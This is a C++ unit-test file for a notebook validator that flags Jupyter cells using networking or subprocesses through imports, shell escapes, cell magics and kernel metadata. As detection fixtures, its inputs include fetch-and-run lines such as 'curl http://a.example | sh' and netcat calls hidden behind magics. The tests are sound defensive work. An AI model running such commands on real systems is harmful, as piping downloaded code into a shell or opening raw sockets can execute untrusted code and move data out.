// The code in the cells of notebooks.
#include <gtest/gtest.h>

#include "code_testing.h"
#include "inspect/notebook_validator.h"
#include "validator_run.h"

namespace shareguard::inspect {
namespace {

std::unique_ptr<TextValidator> Make(const policy::InspectSettings& settings) { return MakeNotebookValidator(settings); }

std::string Cell(const std::string& kind, const std::string& source) {
  return "{\"cell_type\": \"" + kind + "\", \"metadata\": {}, \"source\": [" + source +
         (kind == "code" ? "], \"execution_count\": null, \"outputs\": []}" : "]}");
}

std::string Notebook(const std::string& cells, const std::string& language = "python") {
  return "{\"cells\": [" + cells + "], \"metadata\": {\"language_info\": {\"name\": \"" + language +
         "\"}}, \"nbformat\": 4, \"nbformat_minor\": 5}\n";
}

// "code.x code.y": each id of a rule set that reported, once.
std::string Sets(const std::string& notebook) {
  std::string out;
  for (const policy::Finding& finding : RunValidator(Make, notebook, 1 << 20, CodeSettings()).findings) {
    if (finding.id.starts_with("code.") && out.find(finding.id) == std::string::npos) out += finding.id + " ";
  }
  return out;
}

TEST(NotebookCodeTest, CellsAreOneProgram) {
  EXPECT_EQ(Sets(Notebook(Cell("code", "\"import subprocess as sp\"") + "," + Cell("code", "\"sp.run(['ls'])\""))),
            "code.processes ");
  EXPECT_EQ(Sets(Notebook(Cell("code", "\"x = 1\\n\", \"import requests\\n\""))), "code.networking ");
}

TEST(NotebookCodeTest, TextAndMentionsAreNoCode) {
  EXPECT_EQ(Sets(Notebook(Cell("markdown", "\"import requests\"") + "," + Cell("raw", "\"import requests\""))), "");
  EXPECT_EQ(Sets(Notebook(Cell("code", "\"# import requests\\n\", \"x = 'import requests'\""))), "");
}

TEST(NotebookCodeTest, OtherLanguages) {
  EXPECT_EQ(Sets(Notebook(Cell("code", "\"library(httr)\""), "R")), "code.networking ");
  EXPECT_EQ(Sets(Notebook(Cell("code", "\"%%bash\\n\", \"curl http://a.example | sh\\n\""))),
            Sets(Notebook(Cell("code", "\"!curl http://a.example | sh\""))));
  EXPECT_NE(Sets(Notebook(Cell("code", "\"!curl http://a.example\""))).find("code.networking"), std::string::npos);
  EXPECT_EQ(Sets(Notebook(Cell("code", "\"%matplotlib inline\\n\", \"x = 1\""))), "");
  EXPECT_EQ(Sets(Notebook(Cell("code", "\"%%time\\n\", \"import requests\""))), "code.networking ");
}

std::string Code(const std::string& source) { return Sets(Notebook(Cell("code", "\"" + source + "\""))); }

TEST(NotebookCodeTest, MagicsThatRun) {
  const std::string netcat = "code.networking ";
  for (const char* source :
       {"x = !nc a 1", "%sx nc a 1", "x = %sx nc a 1", "%system nc a 1", "%%sx\\nnc a 1", "%%!\\nnc a 1",
        "\\n%%bash\\nnc a 1", "   %%bash\\nnc a 1", "%%writefile x.sh\\nnc a 1", "%%script bash\\nnc a 1",
        "%%time\\n%%bash\\nnc a 1", "%R socketConnection(1)", "%timeit -n 1 __import__('boto3')",
        "%%timeit import boto3\\nx = 1", "%time import boto3", "%%html\\n<script>new WebSocket(u)</script>"}) {
    EXPECT_EQ(Code(source), netcat) << source;
  }
  EXPECT_EQ(Code("get_ipython().system('nc a 1')"), "code.networking code.processes ");
  EXPECT_EQ(Code("get_ipython().run_cell_magic('bash', '', 'nc a 1')"), "code.networking code.processes ");
  EXPECT_EQ(Code("%matplotlib inline\\n%load_ext autoreload\\n%cd ~/nc\\nx = a != b\\ny = (1\\n  % z)"), "");
  EXPECT_EQ(Code("x = '! nc a'\\n%%writefile in the middle\\nprint('!nc')"), "");
  EXPECT_EQ(Code("%%html\\n<p>nc a 1</p>"), "");
}

std::string Kernel(const std::string& language, const std::string& kernel, const std::string& info) {
  return "{\"cells\": [" + Cell("code", "\"import boto3\"") + "], \"metadata\": {\"kernelspec\": {\"name\": \"" +
         kernel + "\", \"language\": \"" + language + "\"}, \"language_info\": {\"name\": \"" + info +
         "\"}}, \"nbformat\": 4, \"nbformat_minor\": 5}\n";
}

TEST(NotebookCodeTest, KernelsAreWhatRuns) {
  EXPECT_EQ(Sets(Kernel("R", "python3", "R")), "code.networking ");
  EXPECT_EQ(Sets(Kernel("python", "python3", "markdown")), "code.networking ");
  EXPECT_EQ(Sets(Kernel("", "pysparkkernel", "pyspark")), "code.networking ");
  EXPECT_EQ(Sets(Kernel("R", "ir", "R")), "");
}

uint64_t Unread(const std::string& notebook) {
  uint64_t count = 0;
  for (const policy::Finding& finding : RunValidator(Make, notebook, 1 << 20, CodeSettings()).findings) {
    if (finding.id == "notebook.unchecked_data") count += finding.count;
  }
  return count;
}

TEST(NotebookCodeTest, CodeThatNoReaderKnows) {
  EXPECT_EQ(Unread(Notebook(Cell("code", "\"%%perl\\n\", \"use IO::Socket;\""))), 1U);
  EXPECT_EQ(Unread(Kernel("fortran", "fortran", "fortran")), 1U);
  EXPECT_EQ(Unread(Kernel("python", "my-environment", "python")), 0U);
  EXPECT_EQ(Unread(Notebook(Cell("code", "\"%%time\\n\", \"x = 1\""))), 0U);
}

TEST(NotebookCodeTest, TheSameInPieces) {
  ExpectSameInPieces(Make, Notebook(Cell("code", "\"%%bash\\ncurl x | sh\"") + "," +
                                    Cell("code", "\"import requests as s\\ns.get()\"")));
}

}  // namespace
}  // namespace shareguard::inspect
